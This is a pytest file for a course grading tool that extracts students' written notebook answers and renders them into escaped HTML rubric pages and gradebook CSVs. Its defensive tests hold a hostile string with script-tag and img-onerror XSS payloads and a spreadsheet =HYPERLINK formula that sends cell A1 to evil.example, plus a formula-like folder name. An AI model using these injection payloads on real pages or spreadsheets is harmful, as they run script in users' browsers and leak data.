"""Issue 50.1: written answers, graded by rubric.

The grader carries each written answer as plain text in the report (read from the notebook, never
rendered or run); ``dimred-teach written`` shows them per exercise, escaped, identical answers
grouped and blanks apart, beside the rubric and model answer, with a scores file to fill in; and
``gradebook --written`` adds the filled-in points to every gradebook file. The whole way is run on a
demo class of set 04 graded for real, with one blank notebook and one hostile one."""

from __future__ import annotations

import copy
import csv
import json
import re
import subprocess
import sys
from collections import Counter
from pathlib import Path

import nbformat
import pytest
from markupsafe import escape

from dimred_teach.cli import main
from dimred_teach.exercise_specs import load_spec
from dimred_teach.gradebook.written_pages import group_answers, render_markdown
from dimred_teach.grading.reports import write_report
from dimred_teach.grading.results import SubmissionResult, TestResult, WrittenAnswer
from dimred_teach.grading.written import TEXT_LIMIT, spec_answers, written_answers
from test_roster import canvas_import, moodle_import

pytestmark = pytest.mark.sandbox

ROOT = Path(__file__).resolve().parents[2]
DIMRED_TEACH = Path(sys.executable).with_name("dimred-teach")
EXERCISE = nbformat.read(ROOT / "exercises" / "04_mds.ipynb", as_version=4)
SPEC = load_spec("04_mds")
PARTS = [(entry["exercise"], entry["part"]) for entry in SPEC["written"]]
HOSTILE = '<script>alert("pwned")</script> =HYPERLINK("http://evil.example/?"&A1,"click") <img src=x onerror=alert(1)>'


def read_csv(path: Path) -> list[dict]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def write_csv(path: Path, rows: list[dict]) -> None:
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def answer_cells(notebook) -> list:
    return [cell for cell in notebook.cells if cell.id.startswith("written-")]


# --- the grader's side: plain text from the notebook ------------------------------------------------------------

def test_each_answer_is_the_marked_cells_text_without_the_template_words():
    notebook = copy.deepcopy(EXERCISE)
    first, second, third = answer_cells(notebook)
    first.source = "**Your answer:** Because $\\mathbf H\\mathbf 1 = 0$."
    second.source = "**Your answer:** *(write it here)*"  # untouched: blank
    at = notebook.cells.index(second)
    notebook.cells.insert(at + 1, nbformat.v4.new_markdown_cell("Eight are negative."))  # the student's own cell
    notebook.cells.insert(at + 2, nbformat.v4.new_markdown_cell("And one is zero."))
    third.source = ["My star ", "metric."]  # a list of lines, as some tools write
    answers = written_answers(notebook, SPEC)
    assert [(a.exercise, a.part) for a in answers] == PARTS
    assert [a.text for a in answers] == [
        "Because $\\mathbf H\\mathbf 1 = 0$.",
        "Eight are negative.\n\nAnd one is zero.",
        "My star metric.",
    ]
    assert [a.blank for a in answers] == [False, False, False]
    assert [a.max_points for a in answers] == [3.0, 2.0, 2.0]


def test_an_answer_is_found_by_id_without_metadata_and_stops_at_the_notebooks_own_cells():
    notebook = copy.deepcopy(EXERCISE)
    first, second, _ = answer_cells(notebook)
    first.metadata = {}  # a tool that drops metadata: the cell id still names the part
    first.source = "**Your answer:** by id"
    notebook.cells.remove(second)  # deleted: blank
    answers = written_answers(notebook, SPEC)
    assert answers[0].text == "by id" and answers[0].blank is False
    assert answers[1].text == "" and answers[1].blank is True
    # the next cell of the notebook's own (an exercise's heading) is never part of an answer
    assert "Exercise" not in answers[0].text


def test_a_student_cell_with_a_heading_ends_the_answer_and_a_forged_marker_only_changes_ones_own_answer():
    notebook = copy.deepcopy(EXERCISE)
    first = answer_cells(notebook)[0]
    at = notebook.cells.index(first)
    notebook.cells.insert(at + 1, nbformat.v4.new_markdown_cell("## Exercise 9 · mine"))
    forged = nbformat.v4.new_markdown_cell("claims part 1 too")
    forged.metadata = copy.deepcopy(first.metadata)
    notebook.cells.append(forged)
    first.source = "**Your answer:** the first one counts"
    assert written_answers(notebook, SPEC)[0].text == "the first one counts"


def test_an_answer_is_cut_to_the_limit_and_a_lone_surrogate_cannot_break_a_page():
    notebook = copy.deepcopy(EXERCISE)
    first, second, _ = answer_cells(notebook)
    first.source = "x" * (TEXT_LIMIT + 10)
    second.source = "half a pair \ud800 here"
    answers = written_answers(notebook, SPEC)
    assert len(answers[0].text) == TEXT_LIMIT and answers[0].clipped
    assert answers[1].text == "half a pair ? here"
    answers[1].text.encode("utf-8")


def test_what_a_worker_reports_is_checked_against_the_spec():
    reported = [{"exercise": "04.recover_b", "part": 1, "max_points": 99, "blank": True, "text": "y" * 30_000},
                {"exercise": "04.not_a_part", "part": 1, "max_points": 1, "blank": False, "text": "dropped"}]
    answers = spec_answers(reported, SPEC)
    assert [(a.exercise, a.part, a.max_points) for a in answers] == [(e, p, w["points"]) for (e, p), w in
                                                                     zip(PARTS, SPEC["written"])]
    assert answers[0].blank is False and len(answers[0].text) == TEXT_LIMIT and answers[0].clipped
    assert answers[1].blank and answers[1].text == ""  # not reported: blank
    for bad in ({"exercise": 1}, [{"exercise": "04.recover_b", "part": True, "max_points": 1, "blank": False,
                                   "text": ""}], [{"exercise": "04.recover_b", "part": 1, "max_points": 1,
                                                   "blank": "no", "text": ""}]):
        with pytest.raises(ValueError):
            spec_answers(bad, SPEC)


def test_the_report_is_gradescopes_results_json_with_the_answers_as_extra_data(tmp_path):
    written = (WrittenAnswer("04.recover_b", 1, 3.0, HOSTILE, False), WrittenAnswer("04.align", 1, 2.0, "", True))
    result = SubmissionResult("class/ann/04_mds.ipynb", "ann", "04_mds",
                              (TestResult("04.recover_b", 2.0, 2.0, True, "ok"),), "", 1.0, True, "bwrap",
                              written=written)
    write_report(result, tmp_path)
    report = json.loads((tmp_path / "ann.json").read_text())
    # Gradescope's results.json: score, max_score, tests; anything else lives in extra_data
    assert set(report) == {"score", "max_score", "execution_time", "output", "tests", "extra_data"}
    assert report["score"] == 2.0 and report["max_score"] == 2.0  # the written points are the lecturer's to give
    assert report["extra_data"]["written"][0] == {"exercise": "04.recover_b", "part": 1, "max_points": 3.0,
                                                  "blank": False, "clipped": False, "text": HOSTILE}
    assert SubmissionResult.from_gradescope(report, "ann").written == written


# --- the lecturer's pages -----------------------------------------------------------------------------------------

def test_markdown_is_rendered_and_everything_a_student_wrote_stays_text():
    page = str(render_markdown(HOSTILE + "\n\n# Big\n\n[link](javascript:alert(1)) ![img](http://x.example/t.png) "
                                          "<http://x.example> **bold** $a_1 * b_2 < c$\n\n$$x^2$$"))
    assert "<script" not in page and "<img" not in page and "<a " not in page and "<h1" not in page
    assert "&lt;script&gt;" in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "<strong>bold</strong>" in page
    assert '<span class="math">$a_1 * b_2 &lt; c$</span>' in page and '<div class="math">$$x^2$$</div>' in page
    # math over two lines whose second starts like a list item stays math, as Jupyter shows it
    assert (
        str(render_markdown("so $B_{ij} = x\n- \\bar d$ holds"))
        == '<p>so <span class="math">$B_{ij} = x - \\bar d$</span> holds</p>\n'
    )


def test_identical_answers_are_grouped_largest_first_and_blanks_last():
    def answer(text):
        return WrittenAnswer("04.recover_b", 1, 3.0, text, not text.strip())

    answers = [answer("b"), answer(""), answer("a  \n"), answer("a"), None, answer("b"), answer("a"), answer("c")]
    groups = group_answers(answers, order=[7, 6, 5, 4, 3, 2, 1, 0])
    assert [(group.members, group.blank) for group in groups] == [((6, 3, 2), False), ((5, 0), False), ((7,), False),
                                                                  ((1,), True)]


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory) -> dict:
    """A demo class of set 04 (planted written answers: some identical, some blank) with a hostile
    student and a student who wrote nothing, graded by ``dimred-teach grade`` in its sandbox."""
    folder = tmp_path_factory.mktemp("written-class")
    assert main(["demo-class", "--out", str(folder / "class"), "--size", "8", "--seed", "5", "--sets", "04",
                 "--root", str(ROOT)]) == 0
    record = json.loads((folder / "class" / "class.json").read_text())
    hostile = nbformat.read(folder / "class" / "student-001" / "04_mds.ipynb", as_version=4)
    for cell in answer_cells(hostile):
        cell.source = "**Your answer:** " + HOSTILE
    (folder / "class" / "student-=cmd").mkdir()
    nbformat.write(hostile, folder / "class" / "student-=cmd" / "04_mds.ipynb")
    (folder / "class" / "student-blank").mkdir()
    nbformat.write(EXERCISE, folder / "class" / "student-blank" / "04_mds.ipynb")
    graded = subprocess.run([str(DIMRED_TEACH), "grade", str(folder / "class"), "--out", str(folder / "reports"),
                             "--jobs", "2"], cwd=ROOT, capture_output=True, text=True, timeout=900)
    assert graded.returncode in (0, 1), graded.stderr[-3000:]
    return {"folder": folder, "record": record}


def test_every_graded_notebook_reports_its_written_answers(graded_class):
    reports = {json.loads(p.read_text())["extra_data"]["submission"]: json.loads(p.read_text())
               for p in (graded_class["folder"] / "reports").glob("*.json")}
    assert len(reports) == 10
    for name, report in reports.items():
        written = report["extra_data"]["written"]
        assert [(w["exercise"], w["part"]) for w in written] == PARTS
        if name.endswith("student-=cmd/04_mds.ipynb"):
            assert [w["text"] for w in written] == [HOSTILE] * 3
        elif name.endswith("student-blank/04_mds.ipynb"):
            assert all(w["blank"] and w["text"] == "" for w in written)
        else:
            kinds = graded_class["record"]["written"][name.split("class/", 1)[1]]
            assert [w["blank"] for w in written] == [kinds[f"{e} part {p}"] == "blank" for e, p in PARTS]


def test_written_shows_every_answer_escaped_grouped_beside_the_rubric(graded_class, capsys):
    folder = graded_class["folder"]
    assert main(["written", str(folder / "reports"), "--out", str(folder / "written"), "--root", str(ROOT)]) == 0
    assert "10 submission(s), 3 exercise page(s), 30 answer(s)" in capsys.readouterr().out
    planted = graded_class["record"]["written"]
    reports = [json.loads(path.read_text())["extra_data"] for path in (folder / "reports").glob("*.json")]
    for exercise, part in PARTS:
        page = (folder / "written" / f"{exercise}.html").read_text()
        for report in reports:  # every answer is on its page, rendered as the page renders it, its writer named
            answer = next(w for w in report["written"] if (w["exercise"], w["part"]) == (exercise, part))
            assert str(escape(report["submission"])) in page
            assert answer["blank"] or str(render_markdown(answer["text"])) in page
        assert "<script" not in page and "<img" not in page and "&lt;script&gt;alert(&quot;pwned&quot;)" in page
        assert "Rubric" in page and "Model answer" in page
        kinds = Counter(made[f"{exercise} part {part}"] for made in planted.values())
        sizes = [int(n) for n in re.findall(r"<h4>(\d+) identical answers</h4>", page)]
        # the model answer is one group of all who gave it; the first sentence another
        assert kinds["model"] in sizes or kinds["model"] == 1
        blank = re.search(r"<h4>Blank: (\d+) answers?</h4>", page)
        assert int(blank[1]) == kinds["blank"] + 1  # and the student who wrote nothing
    scores = read_csv(folder / "written" / "written-scores.csv")
    assert list(scores[0]) == ["submission", "exercise", "part", "points", "max_points", "comment"]
    assert len(scores) == 30
    for row in scores:
        blank = row["submission"].endswith("student-blank/04_mds.ipynb") or (
            "student-=cmd" not in row["submission"] and "student-blank" not in row["submission"]
            and planted[row["submission"].split("class/", 1)[1]][f"{row['exercise']} part {row['part']}"] == "blank")
        assert (row["points"] == "0") == blank and (row["points"] == "") == (not blank)
    # the pages name each answer's rows: the scores file follows the pages' order
    assert "student-=cmd" in (folder / "written" / "04.recover_b.html").read_text()
    with (folder / "written" / "written-scores.csv").open(encoding="utf-8") as file:
        assert not re.search(r"(^|[,;\t])=", file.read(), re.M)  # the formula-like folder name is neutralised
    # a second run never overwrites a scores file the lecturer may have filled in
    assert main(["written", str(folder / "reports"), "--out", str(folder / "written"), "--root", str(ROOT)]) == 2
    assert "written-scores.csv exists" in capsys.readouterr().err


def test_anonymous_pages_name_no_one_and_shuffle_the_order(graded_class):
    folder = graded_class["folder"]
    orders = []
    for seed in (1, 2):
        out = folder / f"anonymous-{seed}"
        assert main(["written", str(folder / "reports"), "--out", str(out), "--root", str(ROOT), "--anonymous",
                     "--seed", str(seed)]) == 0
        page = (out / "04.recover_b.html").read_text()
        assert "student-" not in page and "answer 1" in page
        orders.append([row["submission"] for row in read_csv(out / "written-scores.csv")])
    assert orders[0] != orders[1] and sorted(orders[0]) == sorted(orders[1])


def _filled(graded_class) -> tuple[Path, Path, dict]:
    """The scores file filled in (1 point per non-blank answer, the hostile one 0 with a hostile comment),
    a roster, and each submission's written points."""
    folder = graded_class["folder"]
    out = folder / "to-fill"
    if not out.exists():
        assert main(["written", str(folder / "reports"), "--out", str(out), "--root", str(ROOT)]) == 0
    rows = read_csv(out / "written-scores.csv")
    expected: Counter = Counter()
    for row in rows:
        if row["points"] == "":
            row["points"] = "0" if "student-=cmd" in row["submission"] else "1.5"
            row["comment"] = '=HYPERLINK("http://evil.example") <b>see me</b>' if "=cmd" in row["submission"] else "ok"
        expected[row["submission"]] += float(row["points"])
    filled = folder / "filled.csv"
    write_csv(filled, rows)
    roster = folder / "roster.csv"
    roster.write_text("id,name,folder\n" + "".join(f"S{n},Student {n},student-{n:03d}\n" for n in range(1, 9))
                      + "S9,Mallory,student-=cmd\nS10,Blank,student-blank\n", encoding="utf-8")
    return filled, roster, expected


def test_the_filled_scores_flow_into_every_gradebook_file(graded_class, capsys):
    folder = graded_class["folder"]
    filled, roster, expected = _filled(graded_class)
    assert main(["gradebook", str(folder / "reports"), "--roster", str(roster), "--written", str(filled),
                 "--out", str(folder / "book"), "--root", str(ROOT)]) == 0
    assert "30 written answer(s) scored" in capsys.readouterr().out
    reports = {json.loads(p.read_text())["extra_data"]["submission"]: json.loads(p.read_text())
               for p in (folder / "reports").glob("*.json")}
    by_student = {f"S{n}": f"student-{n:03d}" for n in range(1, 9)} | {"S9": "student-=cmd", "S10": "student-blank"}
    own = {sid: next(name for name in reports if f"/{who}/" in name) for sid, who in by_student.items()}
    students = {row["id"]: row for row in read_csv(folder / "book" / "students.csv")}
    for sid, name in own.items():
        row = students[sid]
        assert float(row["04_mds points"]) == reports[name]["score"]
        assert float(row["04_mds written points"]) == expected[name]
        assert float(row["total"]) == reports[name]["score"] + expected[name]
        assert float(row["max_total"]) == 12 + 7
    totals = {sid: float(row["total"]) for sid, row in students.items()}
    canvas = canvas_import(folder / "book" / "canvas.csv")
    moodle = moodle_import(folder / "book" / "moodle.csv")
    for imported in (canvas, moodle):
        assert {sid: sum(points.values()) for sid, points in imported.items()} == totals
        assert all(
            set(points) == {"dimred-teach 04_mds", "dimred-teach 04_mds written"} for points in imported.values()
        )
    with (folder / "book" / "canvas.csv").open(encoding="utf-8") as file:
        assert list(csv.reader(file))[1][5:] == ["12", "7"]  # Points Possible
    mallory = (folder / "book" / "feedback" / "S9.html").read_text()
    assert "<b>see me</b>" not in mallory and str(escape('=HYPERLINK("http://evil.example") <b>see me</b>')) in mallory
    ann = (folder / "book" / "feedback" / "S2.html").read_text()
    assert "Written answers" in ann and "1.5 of 3 points" in ann and "ok" in ann
    for name in ("students.csv", "canvas.csv", "moodle.csv", "unmatched.csv"):
        with (folder / "book" / name).open(encoding="utf-8") as file:
            assert not re.search(r"(^|[,;\t])[=+\-@]", file.read(), re.M), name


@pytest.mark.parametrize("edit, named", [
    (lambda rows: rows[0].update(points="4"), "line 2: 4 points for"),
    (lambda rows: rows[1].update(submission="class/nobody/04_mds.ipynb"), "line 3: submission 'class/nobody"),
    (lambda rows: rows[2].update(exercise="04.align"), "line 4: "),
    (lambda rows: rows[3].update(points=""), "line 5: no points"),
    (lambda rows: rows[4].update(points="1,5"), "line 6: points '1,5' is not a number"),
    (lambda rows: rows[5].update(max_points="9"), "line 7: max_points 9 is not"),
    (lambda rows: rows.append(dict(rows[6])), "line 32: "),
])
def test_a_bad_scores_row_is_refused_naming_it_and_nothing_is_written(graded_class, capsys, edit, named):
    folder = graded_class["folder"]
    filled, roster, _ = _filled(graded_class)
    rows = read_csv(filled)
    rows[0].update(points="1")
    edit(rows)
    bad = folder / "bad.csv"
    write_csv(bad, rows)
    out = folder / "refused"
    assert main(["gradebook", str(folder / "reports"), "--roster", str(roster), "--written", str(bad),
                 "--out", str(out)]) == 2
    error = capsys.readouterr().err.strip()
    assert error.startswith("error: --written:") and named in error and "\n" not in error
    assert not out.exists()


def test_written_needs_the_courses_solutions_and_reports_with_written_answers(graded_class, tmp_path, capsys):
    folder = graded_class["folder"]
    assert main(["written", str(folder / "reports"), "--out", str(tmp_path / "out"), "--root", str(tmp_path)]) == 2
    assert capsys.readouterr().err.startswith(f"error: --root: {tmp_path} is not the course's checkout")
    (tmp_path / "empty").mkdir()
    assert main(["written", str(tmp_path / "empty"), "--out", str(tmp_path / "out"), "--root", str(ROOT)]) == 2
    assert "REPORTS: no written answer in" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


def test_an_answer_worth_other_points_than_its_rubric_now_is_said_and_keeps_the_reports(graded_class, tmp_path,
                                                                                         capsys):
    report = next((graded_class["folder"] / "reports").glob("*.json"))
    data = json.loads(report.read_text())
    data["extra_data"]["written"][0]["max_points"] = 5
    (tmp_path / report.name).write_text(json.dumps(data))
    assert main(["written", str(tmp_path / report.name), "--out", str(tmp_path / "out"), "--root", str(ROOT)]) == 0
    assert "note: 1 answer(s) are worth other points in their report than their rubric gives now" in (
        capsys.readouterr().out)
    assert read_csv(tmp_path / "out" / "written-scores.csv")[0]["max_points"] == "5"
